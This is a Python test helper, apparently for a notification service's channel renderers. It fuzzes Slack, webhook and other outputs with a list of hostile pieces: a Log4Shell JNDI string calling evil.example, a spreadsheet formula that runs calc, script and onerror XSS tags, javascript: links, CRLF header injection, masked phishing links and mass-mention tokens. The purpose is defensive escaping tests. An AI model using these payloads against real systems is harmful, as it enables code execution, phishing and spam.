"""Texts that try to get out of their place, and notices that carry them everywhere."""

from __future__ import annotations

import random
from collections.abc import Iterator

from chalicelib.core.notices.channels import webhook
from chalicelib.core.notices.notice import Kind, Notice
from tests.core.notices.channels.checks import check_dead, check_published
from tests.core.notices.channels.rendering import KEY, RENDERERS

# A bot of Slack shows what a webhook of Slack shows.
SHOWN = sorted(RENDERERS.keys() - {"slack_bot", "webhook"})

_PIECES = (
    "<!channel>",
    "<!here|x>",
    "<!everyone>",
    "<@U0123456789>",
    "<#C0123|x>",
    "&lt;!channel&gt;",
    "@channel",
    "@everyone",
    "@here",
    "<at>all</at>",
    "<https://evil.example|https://aws.amazon.com>",
    "[AWS](https://evil.example)",
    "![x](http://evil.example/x.png)",
    "https://evil.example/login?a=b&c=d",
    "HTTPS://EVIL.EXAMPLE",
    "www.evil.example",
    "WWW.evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "mailto:x@evil.example",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "```",
    "`",
    "*bold*",
    "_it_",
    "~gone~",
    "# Heading",
    "> quote",
    "|a|b|",
    "\r\nBcc: everybody@example.com",
    "\n\n",
    "\x00",
    "\x1b[31m",
    "\x07",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\x85",
    "\ud800",
    "\ue000",
    "=cmd|' /C calc'!A0",
    '"',
    "'",
    "\\",
    "\\`",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%0d%0a",
    "Größe",
    "大きさ",
    "🔥",
    "a",
    " ",
    "i-0a1b2c3d4e5f60718",
    "https" * 3 + "://",
    "w" * 40,
    ":/" + "/",
)


def hostile_texts(count: int) -> Iterator[str]:
    """Yield texts of hostile pieces, the same in every run; some of them are 100 kB long."""
    chance = random.Random(20260301)
    for nth in range(count):
        pieces = [chance.choice(_PIECES) for _ in range(chance.randint(1, 12))]
        text = "".join(pieces)
        yield text * (100_000 // max(1, len(text))) if nth % 500 == 0 else text


def a_hostile_notice(text: str, nth: int = 0) -> Notice:
    """Return a notice with `text` in every field that can hold one, and many of the lines."""
    kinds = tuple(Kind)
    return Notice(
        kind=kinds[nth % len(kinds)],
        outcome=text,
        severity=text if nth % 3 else "High",
        account_id=text,
        subject=text,
        sections=((text, (text, f"x{text}", text)), (f"To {text}", (text,)), ("", (text,))),
        facts={
            "region": text,
            "instance_id": text if nth % 2 else None,
            "quarantine_id": text if nth % 4 else None,
            "finding": {"id": text},
        },
    )


def nothing_alive_in(channel: str, count: int) -> None:
    """Show `count` hostile texts on a channel of `SHOWN`, each in every place.

    Raises:
        AssertionError: something of one is alive, or past what the service publishes.
    """
    for nth, text in enumerate(hostile_texts(count)):
        rendered = RENDERERS[channel](a_hostile_notice(text, nth))

        check_dead(channel, rendered)
        if nth % 10 == 0:  # the longest among them
            check_published(channel, rendered)


def nothing_alive_in_a_webhook(count: int) -> None:
    """Send `count` hostile texts through a webhook, which escapes them as data."""
    for nth, text in enumerate(hostile_texts(count)):
        body = webhook.render(a_hostile_notice(text, nth), KEY)

        assert body.isascii()
        assert not set(b"<>&\n\x00\x1b") & set(body)
